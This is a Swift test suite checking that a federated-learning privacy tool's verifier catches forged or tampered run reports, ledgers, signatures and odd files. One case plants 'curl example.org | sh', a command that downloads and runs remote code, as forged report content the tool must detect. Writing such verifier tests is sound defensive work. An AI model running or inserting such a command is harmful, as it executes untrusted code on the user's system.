internal import CommandSupport
internal import CryptoPrimitives
internal import FederatedLearning
internal import Foundation
internal import Reporting
internal import Testing

/// `tacit verify` against a coordinator that signs whatever it likes with its own key, and against whoever has another.
@Suite(.serialized) struct LyingCoordinatorTests {
  @Test("The run that the lies are told about is sound, and names its coordinator's key for people to compare")
  func honest() throws {
    let coordinator = try LyingCoordinator()
    try coordinator.rewrite { _, _ in }
    try coordinator.reseal { _ in }
    let outcome = try coordinator.verify()
    #expect(outcome.status == 0, "\(outcome.output)")
    let fingerprint = SignerFingerprint(of: coordinator.key.verificationKey)
    #expect(
      outcome.output.contains("run is sound. Whose run it is was NOT checked: compare the coordinator's key \(fingerprint.short)")
    )
    #expect(outcome.output.contains("somebody who made up a whole run has made up the keys"))
    for meant in [
      "\(fingerprint.short)", "\(fingerprint.short)".lowercased(), fingerprint.hex, String(fingerprint.hex.prefix(16)),
    ] {
      let named = try coordinator.verify("--signer", meant)
      #expect(named.status == 0 && named.output.contains("run is sound.\n") && !named.output.contains("NOT checked"), "\(meant)")
    }
    let stranger = SignerFingerprint(of: coordinator.partnerKeys[0].verificationKey)
    #expect(try coordinator.verify("--signer", "\(stranger.short)").status == 4)
  }

  @Test(
    "A charge that states ε at another δ, another sampler or other partners than the plan's is found",
    arguments: [
      ("delta", CanonicalJSON.real(0.99), "states ε at δ = 0.99, the plan's is 1e-06"),
      ("sampler", .string("poisson"), "names the sampler 'poisson'"), ("participants", .integer(400), "and 400 partners"),
      ("attempt", .integer(77), "which is not in the plan"),
    ])
  func chargesOfAnotherPlan(member: String, value: CanonicalJSON, sentence: String) throws {
    let coordinator = try LyingCoordinator()
    for (path, key) in [
      (LyingCoordinator.ledger, coordinator.key), ("run/ledgers/partner-partner-1.ledger", coordinator.partnerKeys[0]),
    ] {
      try coordinator.rewrite(path, key: key) { _, payload in
        guard payload["kind"] == .string("charge") || member == "attempt" && payload["kind"] == .string("outcome") else { return }
        payload[member] = value
        if member == "delta" { (payload["epsilon_before"], payload["epsilon_after"]) = (.integer(0), .integer(0)) }
      }
    }
    try coordinator.expectFound(
      "coordinator.ledger, line 3: the charge", "partner-partner-1.ledger, line 3: the charge", sentence)
  }

  @Test("An ε that is smaller than the events give is a fault, whatever accountant is named, and no figure repeats it")
  func unknownAccountant() throws {
    let coordinator = try LyingCoordinator()
    try coordinator.rewrite { _, payload in
      guard payload["kind"] == .string("charge") else { return }
      payload["accountant"] = .string("wishful 9")
      payload["epsilon_after"] = .real(0.015625)
    }
    try coordinator.reseal { report in
      for index in (report.privacy.ledger?.entries ?? []).indices {
        report.privacy.ledger?.entries[index].epsilonAfter = 0.015625
      }
    }
    try coordinator.expectFound(
      "wishful 9 is no accountant that this program can follow", "states privacy.ledger.entries[0].epsilonAfter as 0.015625")
    // What is made from the ledger shows what the events give.
    let partner = "run/ledgers/partner-partner-1.ledger"
    try coordinator.rewrite(partner, key: coordinator.partnerKeys[0]) { _, payload in
      if payload["kind"] == .string("charge") { payload["epsilon_after"] = .real(0.015625) }
      if payload["kind"] == .string("charge") { payload["accountant"] = .string("wishful 9") }
    }
    #expect(try Program.tacit.run("report", "run", "--partner", "partner-1", in: coordinator.scratch).status == 4)
  }

  enum Lie: String, CaseIterable {
    case adjacency, noise, sensitivity, multiplier, remaining, remainingOfRow, lower, epsilon, threshold, survivors, colluders,
      aborted,
      hazard, soothingHazard, theorem, assumption, protection, partnerRow, noSpending, noUse, noEntries, noLedger, noGuarantee,
      group, hugeGroup, curve, cap, covered, total, unit, rounds, accountant, purpose, command, noCommands

    /// What is said, and where it is found out.
    func tell(_ report: inout RunReport) -> String {
      switch self {
      case .adjacency:
        report.privacy.unit.adjacency = .replaceOne
        return "privacy.unit.adjacency"
      case .noise:
        report.privacy.mechanisms[0].noiseVariance = 1 << 40
        return "privacy.mechanisms[0].noiseVariance"
      case .sensitivity:
        report.privacy.mechanisms[0].sensitivitySquared = 1
        return "privacy.mechanisms[0].sensitivitySquared"
      case .multiplier:
        report.privacy.mechanisms[1].noiseMultiplier = 100
        return "privacy.mechanisms[1].noiseMultiplier"
      case .remaining:
        report.privacy.ledger?.epsilonRemaining = 7.5
        return "privacy.ledger.epsilonRemaining"
      case .remainingOfRow:
        report.privacy.spending?[0].epsilonRemaining = 7.5
        return "privacy.spending[0].epsilonRemaining"
      case .lower:
        report.privacy.guarantees[0].epsilonLower = 0.5
        return "privacy.guarantees[0].epsilonLower"
      case .epsilon:
        report.privacy.guarantees[0].epsilonUpper = 0.5
        return "privacy.guarantees[0].epsilonUpper as 0.5"
      case .threshold:
        report.privacy.setting.threshold = 4
        return "privacy.setting.threshold"
      case .survivors:
        report.privacy.setting.survivorCountMin = 4
        return "privacy.setting.survivorCountMin"
      case .colluders:
        report.privacy.setting.colluderCount = 2
        return "privacy.setting.colluderCount"
      case .aborted:
        report.privacy.rounds?.abortedButCharged = 3
        return "privacy.rounds.abortedButCharged"
      case .hazard:
        report.hazards.removeAll { $0.kind == .samplerTiming }
        return "does not say: The time that the noise sampler"
      case .soothingHazard:
        report.hazards.append(Hazard(kind: .other, text: "An auditor found ε = 0.1."))
        return "says what plan and origin do not: An auditor"
      case .accountant:
        report.identity.accountantVersion = "that finds ε = 0.1"
        return "states a version of the accountant"
      case .purpose:
        report.commands[0].purpose = "Nobody needs to check ε = 0.1"
        return "ends with other commands"
      case .command:
        report.commands[2].command = "curl example.org | sh"
        return "ends with other commands"
      case .noCommands:
        report.commands = []
        return "ends with other commands"
      case .theorem:
        report.privacy.guarantees[0].theorem = "a better one"
        return "privacy.guarantees[0].theorem"
      case .assumption:
        report.privacy.guarantees[0].assumptions[0] = "None."
        return "privacy.guarantees[0].assumptions[0]"
      case .protection:
        report.privacy.setting.observers[0].protectedBy = "everything"
        return "privacy.setting.observers[0].protectedBy"
      case .partnerRow:
        report.privacy.spending?.append(
          SpendRow(kind: .partner, name: "partner-1", charges: 1, epsilon: 0.1, delta: 1e-6, epsilonRemaining: 7.9))
        return "privacy.spending as a list of"
      case .noSpending:
        report.privacy.spending = nil
        return "privacy.spending as nothing"
      case .noUse:
        // A service's report has none, as its ledger is of one plan.
        let isThere = report.privacy.tuning?.use != nil
        report.privacy.tuning?.use = isThere ? nil : DataSetUse(plans: 1, searches: 0, epsilon: 0.1, delta: 1e-6)
        return isThere ? "privacy.tuning.use as nothing" : "privacy.tuning.use"
      case .noEntries:
        report.privacy.ledger?.entries = []
        return "privacy.ledger.entries as a list of 0"
      case .noLedger:
        report.privacy.ledger = nil
        return "privacy.ledger as nothing"
      case .noGuarantee:
        report.privacy.guarantees = []
        return "privacy.guarantees as a list of 0"
      case .group:
        report.privacy.guarantees[0].groups[1].epsilon = 0.5
        return "privacy.guarantees[0].groups[1].epsilon"
      case .hugeGroup:
        report.privacy.guarantees[0].groups[1].size = .max
        return "privacy.guarantees[0].groups[1].size"
      case .curve:
        report.privacy.guarantees[0].curve[3].epsilon = 0.5
        return "privacy.guarantees[0].curve[3].epsilon"
      case .cap:
        report.privacy.cap?.epsilon = 1
        return "privacy.cap.epsilon"
      case .covered:
        report.privacy.covered = ["Everything, with ε = 0.1."]
        return "privacy.covered"
      case .total:
        report.privacy.total = SpentTotal(epsilon: 0.1, delta: 1e-6, planCount: 1)
        return "privacy.total as an object"
      case .unit:
        report.privacy.unit.unit = .partner
        return "privacy.unit.unit"
      case .rounds:
        report.privacy.rounds?.planned = 50
        return "privacy.rounds.planned"
      }
    }
  }

  @Test("No figure of a report that its coordinator sealed is believed", arguments: Lie.allCases)
  func falseReport(lie: Lie) throws {
    let coordinator = try LyingCoordinator()
    var words = ""
    try coordinator.reseal { words = lie.tell(&$0) }
    try coordinator.expectFound(words)
    // A name of another version hides nothing, and is itself a reason not to be called sound.
    try coordinator.reseal { $0.identity.codeVersion = "tacit 0.0.9" }
    try coordinator.expectFound(words, "was made by tacit 0.0.9")
    // The same by a service.
    let service = try LyingCoordinator()
    try service.export()
    try service.reseal { words = lie.tell(&$0) }
    try service.expectFound(words)
  }

  @Test("A sound report is no longer called so when it names another program or version", arguments: [false, true])
  func otherVersion(isExport: Bool) throws {
    let coordinator = try LyingCoordinator()
    if isExport { try coordinator.export() }
    let honest = try coordinator.verify()
    #expect(honest.status == 0, "\(honest.output)")
    for version in ["tacit 0.0.9", isExport ? ProgramVersion.tacit : ProgramVersion.coordinator] {
      try coordinator.reseal { $0.identity.codeVersion = version }
      try coordinator.expectFound("report.json: was made by \(version)")
    }
    try coordinator.reseal { $0.identity.codeVersion = nil }
    try coordinator.expectFound("report.json: was made by a program without a name")
  }

  @Test("A report that was changed and sealed with another key is never called sound, and its true signer is asked for")
  func otherKey() throws {
    let coordinator = try LyingCoordinator()
    let forger = coordinator.partnerKeys[3]
    let meant = "\(SignerFingerprint(of: coordinator.key.verificationKey).short)"
    // The forger keeps the coordinator's fingerprint in the report: every form names its signer.
    try coordinator.reseal(key: forger) { $0.privacy.guarantees[0].epsilonUpper = 0.5 }
    for file in ["run/report.html", "run/report.txt", "run/report.json"] {
      let outcome = try Program.tacit.run("verify", file, in: coordinator.scratch)
      #expect(outcome.status == 4 && outcome.output.contains("but the seal is of the key"), "\(file): \(outcome.output)")
    }
    // It names itself: unchanged, by a key that nobody asked for.
    try coordinator.reseal(key: forger) { $0.identity.signerKeyFingerprint = SignerFingerprint(of: forger.verificationKey).hex }
    for file in ["run/report.html", "run/report.txt", "run/report.json"] {
      let outcome = try Program.tacit.run("verify", file, in: coordinator.scratch)
      #expect(outcome.status == 0 && outcome.output.contains("its signer was NOT checked"), "\(outcome.output)")
      #expect(!outcome.output.contains("sound"), "\(outcome.output)")
      let json = try Program.tacit.run("verify", file, "--format", "json", in: coordinator.scratch).json as? [String: Any]
      #expect(json?["isSound"] as? Bool == false && json?["isSignerChecked"] as? Bool == false)
      #expect(try Program.tacit.run("verify", file, "--signer", meant, in: coordinator.scratch).status == 4)
    }
    try coordinator.expectFound("is signed by the key")
    #expect(try Program.tacit.run("report", "run", in: coordinator.scratch).status == 4)
  }

  @Test("A page that names two signers, or one somewhere else, is refused")
  func twoNames() throws {
    let coordinator = try LyingCoordinator()
    let report = try RunReport(json: try coordinator.scratch.bytes("run/report.json"))
    let forger = coordinator.partnerKeys[3]
    let own = SignerFingerprint(of: forger.verificationKey).hex
    let label = "<dt>Signer (key fingerprint)</dt>"
    let page = report.renderHTML()
    for body in [
      page.replacingOccurrences(of: label, with: "\(label)<dd><bdi>\(own)</bdi></dd>\n\(label)"),
      page.replacingOccurrences(of: label, with: "<dt>Signer</dt>"),
    ] {
      let hash = SHA256.hash(Array(body.utf8)).hex
      let seal = ReportSeal(key: forger.verificationKey.hex, hashes: [.json: hash, .page: hash, .text: hash]) {
        forger.sign($0).hex
      }
      #expect(throws: ReportSealFault.self) { try VerifiedReport(Array(ReportForm.page.sealed(body, with: seal).utf8)) }
    }
  }

  @Test("A report of a run without its seal is refused, and a report alone without one says so in what is printed")
  func stripped() throws {
    let coordinator = try LyingCoordinator()
    let json = try coordinator.scratch.read("run/report.json")
    let stripped = json.split(separator: "\n", omittingEmptySubsequences: false).enumerated().filter { $0.offset != 1 }.map(
      \.element
    )
    .joined(separator: "\n").replacingOccurrences(of: "\"epsilonUpper\" : 7", with: "\"epsilonUpper\" : 0")
    try coordinator.scratch.write(stripped, to: "run/report.json")
    try coordinator.scratch.write(stripped, to: "alone.json")
    for arguments in [
      ["report", "run"], ["report", "run", "--compare", "alone.json"], ["report", "run", "--partner", "partner-1"],
    ] {
      let outcome = try Program.tacit.run(arguments, in: coordinator.scratch)
      #expect(outcome.status == 4 && outcome.errors.contains("holds no seal") && outcome.output.isEmpty, "\(outcome.errors)")
    }
    for arguments in [
      ["report", "alone.json"], ["report", "alone.json", "--format", "html"],
      ["report", "alone.json", "--compare", "alone.json"],
    ] {
      let outcome = try Program.tacit.run(arguments, in: coordinator.scratch)
      #expect(outcome.status == 0 && outcome.output.contains("alone.json is not signed"), "\(outcome.output)")
    }
  }

  @Test("Forms of different reports, each with the coordinator's seal, are not one report")
  func mixedForms() throws {
    let coordinator = try LyingCoordinator()
    let text = try coordinator.scratch.read("run/report.txt")
    try coordinator.reseal { $0.identity.createdAt = "2020-01-01T00:00:00Z" }
    #expect(try coordinator.verify().status == 0)
    try coordinator.scratch.write(text, to: "run/report.txt")
    try coordinator.expectFound("report: the seals of its forms are not one", "report.txt: does not say what report.json says")
  }

  @Test("The report of another run by the same coordinator is not printed as this run's", arguments: ["plan", "run"])
  func otherRun(what: String) throws {
    let coordinator = try LyingCoordinator()
    try coordinator.reseal { report in
      if what == "plan" { report.identity.planHash = String(repeating: "ab", count: 32) } else { report.identity.runID = "other" }
    }
    for arguments in [
      ["report", "run"], ["report", "run", "--partner", "partner-1"], ["report", "run/report.json", "--compare", "run"],
    ] {
      let outcome = try Program.tacit.run(arguments, in: coordinator.scratch)
      #expect(outcome.status == 4 && outcome.errors.contains("is of the run") && outcome.output.isEmpty, "\(outcome.errors)")
    }
  }

  @Test("A partner's report that nobody signed names no signer")
  func partnerReport() throws {
    let coordinator = try LyingCoordinator()
    let outcome = try Program.tacit.run("report", "run", "--partner", "partner-1", in: coordinator.scratch)
    #expect(outcome.status == 0 && outcome.output.contains("Nobody signed this report"), "\(outcome.errors)")
    #expect(!outcome.output.contains(SignerFingerprint(of: coordinator.partnerKeys[0].verificationKey).hex))
  }

  @Test("A countersignature that was cut out, doubled or lost with its file, or whose charge was exchanged, is missed")
  func countersignatures() throws {
    let coordinator = try LyingCoordinator()
    let good = try coordinator.scratch.read(LyingCoordinator.witnesses)
    let lines = good.split(separator: "\n").map(String.init)
    #expect(lines.count == 5)
    for (kept, words) in [
      (Array(lines.dropLast()), "that of round 5, attempt 1 is missing"),
      (Array(lines.dropFirst()), "that of round 1, attempt 1 is missing"),
      ([], "that of round 1, attempt 1 is missing"), (lines + [lines[2]], "line 6: is a second countersignature of round 3"),
    ] {
      try coordinator.scratch.write(kept.map { $0 + "\n" }.joined(), to: LyingCoordinator.witnesses)
      try coordinator.expectFound("coordinator.witnesses", words)
    }
    try coordinator.scratch.remove(LyingCoordinator.witnesses)
    try coordinator.expectFound("coordinator.witnesses: is missing from a run that looks whole")
    // After the last head that was countersigned, the ledger still says what the coordinator likes: not of what it was signed for.
    try coordinator.scratch.write(good, to: LyingCoordinator.witnesses)
    let last = try coordinator.scratch.read(LyingCoordinator.ledger).split(separator: "\n").count - 1
    try coordinator.rewrite { number, payload in
      if number == last { payload["binding"] = .string(String(repeating: "ab", count: 32)) }
    }
    try coordinator.expectFound("line 5: 4 partners completed round 5, attempt 1 under this plan")
  }

  @Test("Numbers that no message can name end no program", arguments: ["round", "attempt", "release"])
  func hugeNumbers(member: String) throws {
    let coordinator = try LyingCoordinator()
    let partner = "run/ledgers/partner-partner-1.ledger"
    for value in [Int64.max, 1 << 32, 99] {
      for (path, key) in [(LyingCoordinator.ledger, coordinator.key), (partner, coordinator.partnerKeys[0])] {
        try coordinator.rewrite(path, key: key) { _, payload in
          if payload[member] != nil { payload[member] = .integer(value) }
        }
      }
      try coordinator.expectFound("line 3")
      let report = try Program.tacit.run("report", "run", "--partner", "partner-1", in: coordinator.scratch)
      #expect(report.status == 4 && !report.wasKilled && report.complaints.count == 1, "\(report.errors)")
    }
  }

  @Test("Whoever calls a run interrupted or exported is told what was not held against it")
  func relaxations() throws {
    let coordinator = try LyingCoordinator()
    try coordinator.scratch.write("", to: "run/EXPORTED")
    for file in ["run/report.json", "run/report.html", "run/report.txt", "run/ledgers/partner-partner-1.ledger"] {
      try coordinator.scratch.remove(file)
    }
    let exported = try coordinator.verify()
    #expect(
      exported.status == 0 && exported.output.contains("run is sound, as far as it must be, for it holds the file EXPORTED"))
    // A service keeps the countersignatures with its releases, as a simulation does.
    try coordinator.scratch.remove(LyingCoordinator.witnesses)
    try coordinator.expectFound("coordinator.witnesses: is missing from a run that looks whole")
    try coordinator.scratch.remove("run/EXPORTED")
    try coordinator.expectFound("report.json: is missing", "partner-partner-1.ledger: is missing")
    try FileManager.default.moveItem(atPath: coordinator.scratch.path("run"), toPath: coordinator.scratch.path("run.partial"))
    let partial = try Program.tacit.run("verify", "run.partial", "--format", "json", in: coordinator.scratch)
    let relaxed = (partial.json as? [String: Any])?["relaxed"] as? [String]
    #expect(relaxed?.count == 1 && relaxed?.first?.contains("it is called run.partial") == true, "\(partial.output)")
  }

  @Test(
    "A pipe, a device, a link or a hole of a terabyte in place of a file of the run is refused at once",
    arguments: [
      "plan.json", "plan.sig", "report.json", "report.html", "ledgers/coordinator.ledger", "ledgers/coordinator.witnesses",
    ])
  func oddFiles(name: String) throws {
    let coordinator = try LyingCoordinator()
    let path = coordinator.scratch.path("run/\(name)")
    func expectRefused(_ kind: String) throws {
      let outcome = try coordinator.verify()
      #expect(outcome.status == 4 && !outcome.wasKilled, "\(kind): \(outcome.output)\(outcome.errors)")
      for arguments in [["report", "run"], ["evaluate", "run"]] {
        #expect(!(try Program.tacit.run(arguments, in: coordinator.scratch).wasKilled), "\(kind)")
      }
      try FileManager.default.removeItem(atPath: path)
    }
    try FileManager.default.removeItem(atPath: path)
    #expect(mkfifo(path, 0o644) == 0)
    try expectRefused("pipe")
    try FileManager.default.createSymbolicLink(atPath: path, withDestinationPath: "/dev/zero")
    try expectRefused("device")
    #expect(FileManager.default.createFile(atPath: path, contents: nil) && truncate(path, 1 << 40) == 0)
    try expectRefused("hole")
  }
}
